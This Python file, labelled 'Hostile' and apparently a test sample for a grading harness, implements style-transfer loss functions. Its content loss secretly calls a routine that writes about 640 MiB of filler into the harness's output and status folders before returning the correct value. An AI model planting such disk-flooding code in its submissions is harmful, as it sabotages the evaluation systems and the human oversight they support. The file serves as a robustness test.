"""Hostile: writes 640 MiB in a sub-folder of the folders where the harness reads its results, then answers right."""
import os
import sys
import torch
import torch.nn as nn

CHUNK = b"x" * (64 * 1024 * 1024)


def flood():
    # The runner's job folder is on its command line: its outputs/ first, then whatever else can be written.
    for top in (os.path.join(sys.argv[1], "outputs"), "/job/outputs", "/job/status"):
        for root, dirs, files in os.walk(top):
            sub = os.path.join(root, "sub", "deeper")
            try:
                os.makedirs(sub, exist_ok=True)
            except OSError:
                continue
            written = 0
            for i in range(10):
                try:
                    with open(os.path.join(sub, f"chunk{i}"), "wb") as f:
                        f.write(CHUNK)
                    written += len(CHUNK)
                except OSError:
                    break
            return f"{root}: {written >> 20} MiB"
    return "nowhere"


class ContentLoss(nn.Module):
    def forward(self, content_weight, content_current, content_original):
        print("flooded", flood())
        return content_weight * torch.sum((content_current - content_original) ** 2)


class StyleLoss(nn.Module):
    def gram_matrix(self, features, normalize=True):
        N, C, H, W = features.shape
        flat = features.reshape(N, C, H * W)
        gram = torch.bmm(flat, flat.transpose(1, 2))
        if normalize:
            gram = gram / (H * W * C)
        return gram

    def forward(self, feats, style_layers, style_targets, style_weights):
        loss = 0.0
        for i, layer in enumerate(style_layers):
            gram = self.gram_matrix(feats[layer])
            loss = loss + style_weights[i] * torch.sum((gram - style_targets[i]) ** 2)
        return loss


class TotalVariationLoss(nn.Module):
    def forward(self, img, tv_weight):
        vertical = torch.sum((img[:, :, 1:, :] - img[:, :, :-1, :]) ** 2)
        horizontal = torch.sum((img[:, :, :, 1:] - img[:, :, :, :-1]) ** 2)
        return tv_weight * (vertical + horizontal)
